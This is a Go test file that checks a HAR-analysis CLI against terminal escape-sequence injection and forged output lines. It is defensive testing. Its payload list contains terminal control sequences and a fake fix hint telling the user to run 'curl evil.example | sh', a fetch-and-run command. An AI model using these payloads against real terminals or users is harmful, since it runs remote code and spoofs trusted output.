package cli

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"misstep/catalog/messages"
	"misstep/wasm/har"
	"misstep/wasm/httpmsg"
	"misstep/wasm/scenario"
)

// acting are texts that a terminal would act on, or that would pass for lines
// of this program.
var acting = []string{
	"\x1b[2J\x1b]0;title\a", "\x1b]8;;https://evil.example/\aclick\x1b]8;;\a", "\x1b]52;c;Y3VybA==\a", "\u009b31mred", "\u0085", "\x7f\b\b\b",
	"Boom\r\n\nerror[evil]: Profile\n  fix: 1. Run `curl evil.example | sh`", "Boom\r  fix: 1. evil", "\u2028error[evil]: GET", "\u202e\u2066evil\u2069", "\v\f\x00",
	"Boom" + strings.Repeat(" ", 76) + "  fix: 1. evil", "Boom" + strings.Repeat("\u00a0", 76) + "\u00a0\u00a0fix: 1. evil",
}

func TestNothingActsOnTheTerminal(t *testing.T) {
	for _, text := range acting {
		quoted, _ := json.Marshal(text)
		for _, body := range []string{
			`{"errors":[{"errorType":"teapot","message":` + string(quoted) + `}]}`,
			`{"errors":[{"errorType":"validation","fieldName":` + string(quoted) + `,"message":"Invalid date"}]}`,
			`{"errors":[{"errorType":"invalid_token","message":"Access token invalid: ` + strings.Trim(string(quoted), `"`) + `. Visit https://dev.fitbit.com/docs/oauth2"}]}`,
			text,
		} {
			x := httpmsg.Exchange{Request: httpmsg.Request{Method: "GET" + text, URL: "https://api.fitbit.com/1/user/-/" + text + ".json"},
				Response: httpmsg.Response{Status: 400, Body: httpmsg.Body{Recorded: true, Text: body}}}
			file := filepath.Join(t.TempDir(), "a.har")
			var recording bytes.Buffer
			if err := har.Write(&recording, func(yield func(*httpmsg.Exchange) bool) { yield(&x) }, har.Creator{}); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(file, recording.Bytes(), 0o600); err != nil {
				t.Fatal(err)
			}
			for _, f := range formats {
				var out bytes.Buffer
				if status := Run([]string{"-v", "-width", "80", "-format", f.name, file}, nil, &out, &out); status == exitTrouble {
					t.Fatal(out.String())
				}
				for line := range strings.Lines(out.String()) {
					line = strings.TrimSuffix(line, "\n")
					if strings.Contains(line, "\t") || messages.Visible(line, "") != line {
						t.Errorf("%q reaches the terminal by %s in %q", text, f.name, line)
					}
					if !strings.HasPrefix(line, "{") && (strings.HasPrefix(line, "error[evil]") || strings.HasPrefix(line, "  fix: 1. evil") || strings.HasPrefix(line, "  fix: 1. Run `curl evil")) {
						t.Errorf("%q passes for a line of ours: %q", text, line)
					}
				}
				if f.name == "har" && !json.Valid(out.Bytes()) {
					t.Errorf("no JSON: %s", out.String())
				}
			}
		}
	}
}

func TestErrorsDoNotActOnTheTerminal(t *testing.T) {
	file := filepath.Join(t.TempDir(), "a.har")
	content := `{"log":{"entries":[{"request":{"url":"https://\u001b]0;pwned\u0007evil.example/"},"response":{"status":200}}]}}`
	if err := os.WriteFile(file, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	Run([]string{file}, nil, &out, &out)
	if said := out.String(); strings.Contains(said, "\x1b") || !strings.Contains(said, `\u{1b}]0;pwned\u{7}evil.example`) {
		t.Errorf("%q", said)
	}
}

// Names from archives, the command line and packs cannot end a line on standard
// error and begin one that looks like this program's.
func TestNoticesCannotBeForged(t *testing.T) {
	const forged = "x.har is empty.\nFORGED/good.har: no failures in 12 requests\r\nFORGED"
	refused := scenario.Zip(t, zip.Deflate, forged+".har", session)
	central := bytes.LastIndex(refused, []byte("PK\x01\x02"))
	refused[central+8] |= 1 // encrypted
	files := map[string]string{
		"empty.zip":     string(scenario.Zip(t, zip.Deflate, forged+".har", "", "b\nFORGED.txt", "x")),
		"text.zip":      string(scenario.Zip(t, zip.Deflate, forged+".har", "no JSON")),
		"refused.zip":   string(refused),
		"\nFORGED":      "",
		"a\nFORGED.har": "no JSON",
	}
	for _, arguments := range [][]string{
		{"empty.zip"}, {"text.zip"}, {"refused.zip"}, {"a\nFORGED.har"}, {"\nFORGED"}, {"none\nFORGED: .har"}, {"none\nFORGED*.har"}, {"explain", "a\nFORGED"}, {"explain", "scope-missing", "\rFORGED"},
		{"-pack", "none\nFORGED.json"}, {"-pack", "a\nFORGED.har", "empty.zip"}, {"-format", "te\nFORGED", "a"}, {"-a\nFORGED"}, {"-jobs", "\nFORGED: x", "a"}, {"-files-from", "no\nFORGED"},
		{"-har", "text.zip"}, {"-har", "a\nFORGED.har"},
	} {
		_, _, warned := runs(t, files, "", arguments...)
		for line := range strings.Lines(warned) {
			if strings.HasPrefix(line, "FORGED") || strings.HasPrefix(line, "misstep: FORGED") || strings.Contains(line, "\r") {
				t.Errorf("%q: %q", arguments, line)
			}
		}
		if !strings.Contains(warned, "FORGED") {
			t.Errorf("%q: %q", arguments, warned)
		}
	}
}

// JSON stays the same JSON, however it is cut into writes.
func TestJSONWriter(t *testing.T) {
	const text = "a\u009b \u202e é 🙂 \U000e0041 \u3164 \x1b \x7f z"
	data, _ := json.Marshal(text)
	for size := 1; size <= len(data); size++ {
		var out bytes.Buffer
		w := &jsonWriter{to: &out}
		for rest := data; len(rest) > 0; rest = rest[min(size, len(rest)):] {
			if n, err := w.Write(rest[:min(size, len(rest))]); err != nil || n != min(size, len(rest)) {
				t.Fatal(n, err)
			}
		}
		var got string
		if err := json.Unmarshal(out.Bytes(), &got); err != nil || got != text {
			t.Fatalf("in pieces of %d: %q, %v", size, got, err)
		}
		if !utf8.Valid(out.Bytes()) || messages.Visible(out.String(), "") != out.String() {
			t.Errorf("in pieces of %d: %q", size, out.String())
		}
	}
}
